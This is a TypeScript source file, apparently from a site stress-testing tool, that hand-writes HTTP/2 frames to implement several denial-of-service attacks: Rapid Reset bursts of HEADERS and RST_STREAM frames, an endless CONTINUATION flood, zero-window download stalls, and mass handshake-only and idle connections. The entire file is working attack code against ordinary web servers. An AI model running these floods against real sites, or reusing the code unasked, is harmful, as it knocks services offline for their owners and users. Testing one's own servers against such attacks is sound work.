/** What clients of HTTP/2 can do to a site. They write their own frames, since no library would. */
import type net from 'node:net';

import type { Target } from '../attackers';
import type { Counter } from './counter';
import { hold } from './sockets';

const [HEADERS, RST_STREAM, SETTINGS, CONTINUATION] = [0x1, 0x3, 0x4, 0x9];
const [END_STREAM, END_HEADERS] = [0x1, 0x4];
const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';

/** Streams of one burst. */
const BURST = 100;

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A literal field of HPACK that no table keeps; a name is given as a number of the static table or as a text. */
function literal(name: number | string, value: string): Buffer {
  const text = (characters: string) =>
    Buffer.concat([Buffer.from([characters.length]), Buffer.from(characters)]);
  const named = typeof name === 'number' ? Buffer.from([name]) : [Buffer.from([0]), text(name)];
  return Buffer.concat([named, text(value)].flat());
}

/** The fields of a request: GET and https are in HPACK's static table, path and authority have their names there. */
function request(path: string): Buffer {
  return Buffer.concat([Buffer.from([0x82, 0x87]), literal(0x04, path), literal(0x01, 'site')]);
}

/** Begins HTTP/2 on a connection; `window` bytes of each response have room. */
function begin(socket: net.Socket, window: number): void {
  const initialWindowSize = Buffer.alloc(6);
  initialWindowSize.writeUInt16BE(0x4, 0);
  initialWindowSize.writeUInt32BE(window, 2);
  socket.write(Buffer.concat([Buffer.from(PREFACE), frame(SETTINGS, 0, 0, initialWindowSize)]));
}

/** Writes again and again, as fast as the site takes it. */
function flood(socket: net.Socket, counter: Counter, next: () => Buffer): void {
  socket.resume();
  const write = () => {
    while (!counter.isOver && socket.writable) {
      counter.count('bursts');
      if (!socket.write(next())) return;
    }
  };
  socket.on('drain', write);
  write();
}

/** Requests that are taken back at once. */
export function rapidReset({ origin, amount }: Target, counter: Counter): void {
  const cancel = Buffer.from([0, 0, 0, 8]);
  hold(origin, amount, counter, (socket) => {
    begin(socket, 65_535);
    let stream = 1;
    flood(socket, counter, () => {
      const frames = [];
      for (let burst = 0; burst < BURST; burst += 1, stream += 2) {
        frames.push(frame(HEADERS, END_STREAM | END_HEADERS, stream, request('/')));
        frames.push(frame(RST_STREAM, 0, stream, cancel));
      }
      return Buffer.concat(frames);
    });
  });
}

/** Heads of requests whose fields never end. */
export function continuationFlood({ origin, amount }: Target, counter: Counter): void {
  const fields = Array.from({ length: 100 }, () => literal('x', 'x'.repeat(100)));
  const more = frame(CONTINUATION, 0, 1, Buffer.concat(fields));
  hold(origin, amount, counter, (socket) => {
    begin(socket, 65_535);
    socket.write(frame(HEADERS, END_STREAM, 1, request('/')));
    flood(socket, counter, () => more);
  });
}

/** As many downloads as a connection may have, with room for no byte of them. */
export function zeroWindow({ origin, amount }: Target, counter: Counter): void {
  hold(origin, amount, counter, (socket) => {
    socket.resume();
    begin(socket, 0);
    for (let stream = 1; stream < 2 * BURST; stream += 2) {
      const fields = request('/kit/glass-parade-wav.zip');
      socket.write(frame(HEADERS, END_STREAM | END_HEADERS, stream, fields));
    }
  });
}

/** Connections that do their handshake, all at once, and then nothing. */
export function handshakes({ origin, amount }: Target, counter: Counter): void {
  hold(origin, amount, counter, (socket) => {
    socket.resume();
  });
}

/** Connections of two addresses that begin HTTP/2 and ask for nothing. One that the site ends is made again. */
export function idleConnections({ origin, amount }: Target, counter: Counter): void {
  const open = (socket: net.Socket) => {
    socket.resume();
    begin(socket, 65_535);
  };
  hold(origin, amount, counter, open, 2);
}
